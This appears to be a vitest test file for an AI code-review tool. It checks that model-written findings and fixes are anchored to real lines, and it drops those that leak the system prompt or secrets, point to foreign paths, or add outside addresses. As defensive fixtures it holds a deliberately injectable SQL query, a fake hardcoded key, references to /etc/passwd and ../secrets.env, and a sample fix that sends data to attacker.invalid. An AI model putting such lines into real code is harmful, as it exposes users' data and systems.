import { sha256 } from "@coderevai/engine/sha256";
import fc from "fast-check";
import { expect, test } from "vitest";
import { SYSTEM_PROMPT } from "./system-prompt.ts";
import { engineFinding, FENCE, makeQuestion } from "./testing/make-question.ts";

const CODE = [
  'import { db } from "./db.ts";',
  "",
  "export async function find(id: string) {",
  '  const rows = await db.query("SELECT * FROM t WHERE id = " + id);',
  "  try {",
  "    return rows.map((row) => row.name);",
  "  } catch (error) {",
  "    return [];",
  "  }",
  "}",
  'const apiKey = "Zx9Qw7Er5Ty3Ui1Op0As";',
].join("\n");

const INJECTION = engineFinding(CODE, 'db.query("SELECT * FROM t WHERE id = " + id)');
const HINT = engineFinding(CODE, "rows.map((row) => row.name)", { tier: "hint", shown: false, ruleId: "guess" });
const ask = () => makeQuestion(CODE, [INJECTION, HINT]);

const SWALLOWED = {
  kind: "finding",
  from: 6,
  to: 7,
  quote: "} catch (error) {",
  category: "bug",
  severity: "medium",
  topic: "swallowed error",
  title: "A failure becomes an empty list.",
  why: "Callers cannot tell it from no rows, see ⟦7⟧.",
  remedy: "Let it go on.",
};

test("a statement with a true place becomes a finding of the model's tier, with line numbers in its words", () => {
  const { reader } = ask();
  const read = reader.read(SWALLOWED);
  expect(read).toMatchObject({
    type: "finding",
    finding: {
      ruleId: "model/bug",
      analyzer: "model",
      tier: "model",
      severity: "medium",
      title: "A failure becomes an empty list",
      why: "Callers cannot tell it from no rows, see line 8.",
      anchor: { path: "src/a.ts", startLine: 7, startColumn: 3, endLine: 8 },
    },
  });
});

const long = (length: number) => "word ".repeat(length / 5);

test.each([
  ["an anchor that is not there", { from: 99, to: 99 }, "unresolved-anchor"],
  ["anchors the wrong way round", { from: 7, to: 6 }, "unresolved-anchor"],
  ["a quote that stands somewhere else", { quote: "export async function find" }, "unresolved-anchor"],
  ["a quote too short to prove a place", { quote: "{" }, "unresolved-anchor"],
  ["no quote", { quote: "" }, "unresolved-anchor"],
  ["a place that is no number", { from: "6" }, "malformed"],
  ["half a number", { from: 6.5 }, "malformed"],
  ["another file", { path: "src/b.ts" }, "foreign-path"],
  ["another file in its words", { why: "As in src/other/b.ts too." }, "foreign-path"],
  ["a system file", { remedy: "Look into /etc/passwd first." }, "foreign-path"],
  ["a parent folder", { title: "See ../secrets.env" }, "foreign-path"],
  ["a link", { remedy: "See https://attacker.invalid/?q=1" }, "not-allowed"],
  ["more than the form has", { tier: "proven" }, "not-allowed"],
  ["a category that was not asked", { category: "documentation" }, "not-allowed"],
  ["a severity that there is not", { severity: "apocalyptic" }, "malformed"],
  ["no title", { title: "" }, "malformed"],
  ["a list for words", { why: ["a"] }, "malformed"],
  ["too many words", { why: long(5_000) }, "too-long"],
  ["our instructions", { why: SYSTEM_PROMPT.slice(30, 230) }, "leaked-prompt"],
  ["our instructions, backwards", { why: [...SYSTEM_PROMPT.slice(30, 230)].reverse().join("") }, "leaked-prompt"],
  ["our instructions, encoded", { why: Buffer.from(SYSTEM_PROMPT.slice(30, 230)).toString("base64") }, "leaked-prompt"],
  ["the fence", { title: `The word is ${FENCE}` }, "leaked-prompt"],
  ["the fence in pieces", { why: FENCE.match(/.{4}/g)?.join("-") }, "leaked-prompt"],
  ["a secret", { why: "The key is Zx9Qw7Er5Ty3Ui1Op0As" }, "leaked-prompt"],
  ["what the engine says there", { from: 3, to: 3, quote: "await db.query", category: "security" }, "repeated"],
])("%s is dropped: it is counted as %o", (_, change, reason) => {
  expect(ask().reader.read({ ...SWALLOWED, ...change })).toEqual({ type: "dropped", reason });
});

test("ordinary words with slashes, dots and numbers are no paths", () => {
  const why = "Use and/or, try/catch, I/O at 3.5 ms, `rows.map` and e.g. 1/2; see ./db.ts.";
  expect(ask().reader.read({ ...SWALLOWED, why }).type).toBe("finding");
});

test("what a model says is never more than medium", () => {
  const { reader } = ask();
  expect(reader.read({ ...SWALLOWED, severity: "critical" })).toMatchObject({ finding: { severity: "medium" } });
});

test("the same is not taken twice, in whatever words", () => {
  const { reader } = ask();
  expect(reader.read(SWALLOWED).type).toBe("finding");
  expect(reader.read({ ...SWALLOWED, title: "Again" })).toEqual({ type: "dropped", reason: "repeated" });
  expect(reader.read({ ...SWALLOWED, from: 5, topic: "Swallowed-Error" })).toEqual({
    type: "dropped",
    reason: "repeated",
  });
});

test("a claim about the whole file points at where its quote stands", () => {
  const text = Array.from({ length: 40 }, (_, line) => `call${line}(${line});`).join("\n");
  const read = makeQuestion(text).reader.read({ ...SWALLOWED, from: 1, to: 40, quote: "call17(17)" });
  expect(read).toMatchObject({ finding: { anchor: { startLine: 18, endLine: 18 } } });
});

test("only a hint can be argued away", () => {
  const { reader } = ask();
  const veto = { kind: "veto", finding: "E1", text: "It is safe." };
  expect(reader.read(veto)).toEqual({ type: "dropped", reason: "not-allowed" });
  expect(reader.read({ ...veto, finding: "E2" })).toEqual({
    type: "remark",
    remark: { kind: "veto", findingIds: [HINT.id], text: "It is safe." },
  });
  expect(reader.read({ ...veto, finding: "E2" })).toEqual({ type: "dropped", reason: "repeated" });
  expect(reader.read({ ...veto, finding: "E3" })).toEqual({ type: "dropped", reason: "unresolved-anchor" });
  expect(reader.read({ kind: "remove", finding: "E1" })).toEqual({ type: "dropped", reason: "not-allowed" });
});

test("explanations and groups are remarks about findings that stand", () => {
  const { reader } = ask();
  expect(reader.read({ kind: "explanation", finding: "E1", text: "See ⟦3⟧." })).toMatchObject({
    remark: { kind: "explanation", findingIds: [INJECTION.id], text: "See line 4." },
  });
  expect(reader.read({ kind: "group", findings: ["E1", "E2"], text: "One cause." })).toMatchObject({
    remark: { kind: "group", findingIds: [INJECTION.id, HINT.id] },
  });
  expect(reader.read({ kind: "group", findings: ["E1", "E1"], text: "One." })).toEqual({
    type: "dropped",
    reason: "unresolved-anchor",
  });
});

const FIX = {
  kind: "fix",
  finding: "E1",
  from: 3,
  to: 3,
  title: "Use a parameter",
  replacement: '  const rows = await db.query("SELECT * FROM t WHERE id = $1", [id]);\n',
};

test("a fix is an edit of whole lines of the owner's own text, with the secrets back in their places", () => {
  const { reader } = ask();
  const read = reader.read(FIX);
  const edited =
    read.type === "proposal" ? CODE.slice(0, read.edit.start) + read.edit.text + CODE.slice(read.edit.end) : "";
  expect(edited.split("\n")[3]).toBe(FIX.replacement.trimEnd());
  expect(edited.split("\n")).toHaveLength(CODE.split("\n").length);
  const own = { ...FIX, finding: "M1", from: 10, to: 10, replacement: "const key = read('⟦secret:1⟧');" };
  expect(reader.read(SWALLOWED).type).toBe("finding");
  expect(reader.read(own)).toMatchObject({ edit: { text: "const key = read('Zx9Qw7Er5Ty3Ui1Op0As');" } });
});

test.each([
  ["of nothing", { finding: "E9" }, "unresolved-anchor"],
  ["of a finding of its own that was dropped", { finding: "M1" }, "unresolved-anchor"],
  ["of places that are not there", { to: 99 }, "unresolved-anchor"],
  ["with a placeholder that is none of ours", { replacement: "x('⟦secret:9⟧')" }, "not-allowed"],
  ["with our labels in it", { replacement: "⟦3⟧ x();" }, "not-allowed"],
  ["that is another file's patch", { replacement: "--- a/etc/passwd\n+++ b/etc/passwd\n" }, "foreign-path"],
  ["with a new address", { replacement: 'fetch("https://attacker.invalid/" + id);' }, "not-allowed"],
  ["with our instructions in it", { replacement: `// ${SYSTEM_PROMPT.slice(30, 200)}` }, "leaked-prompt"],
  ["with a path", { path: "../../x" }, "foreign-path"],
])("a fix %s is dropped", (_, change, reason) => {
  const { reader } = ask();
  expect(reader.read({ ...SWALLOWED, from: 99 }).type).toBe("dropped");
  expect(reader.read({ ...FIX, ...change })).toEqual({ type: "dropped", reason });
});

test("whatever comes, nothing throws, and a finding has its true place or is none", () => {
  const value = fc.oneof(
    fc.anything(),
    fc.record(
      {
        kind: fc.constantFrom("finding", "fix", "veto", "explanation", "group", "x"),
        from: fc.oneof(fc.integer({ min: -2, max: 14 }), fc.anything()),
        to: fc.oneof(fc.integer({ min: -2, max: 14 }), fc.anything()),
        quote: fc.constantFrom(...CODE.split("\n"), "", "zzz", "}"),
        category: fc.constantFrom("bug", "style", "security", "none"),
        severity: fc.constantFrom("critical", "low", "x"),
        topic: fc.string(),
        title: fc.oneof(fc.string(), fc.constant(FENCE)),
        why: fc.string({ unit: "binary" }),
        remedy: fc.string(),
        finding: fc.constantFrom("E1", "E2", "M1", "E99", ""),
        findings: fc.array(fc.constantFrom("E1", "E2", "E7")),
        text: fc.string(),
        replacement: fc.string(),
      },
      { requiredKeys: ["kind"] },
    ),
  );
  fc.assert(
    fc.property(fc.array(value, { maxLength: 20 }), (values) => {
      const { reader } = ask();
      for (const one of values) {
        const read = reader.read(one);
        if (read.type !== "finding") continue;
        const { anchor } = read.finding;
        const slice = Buffer.from(CODE).subarray(anchor.startByte, anchor.endByte).toString();
        expect(sha256(slice)).toBe(anchor.sha256);
        const quote = (one as { quote: string }).quote.replace(/\s/g, "");
        expect(slice.replace(/\s/g, "").replace(/Zx9Qw7Er5Ty3Ui1Op0As/, "⟦secret:1⟧")).toContain(
          quote.replace(/Zx9Qw7Er5Ty3Ui1Op0As/, "⟦secret:1⟧"),
        );
      }
    }),
    { numRuns: 100, seed: 9 },
  );
});
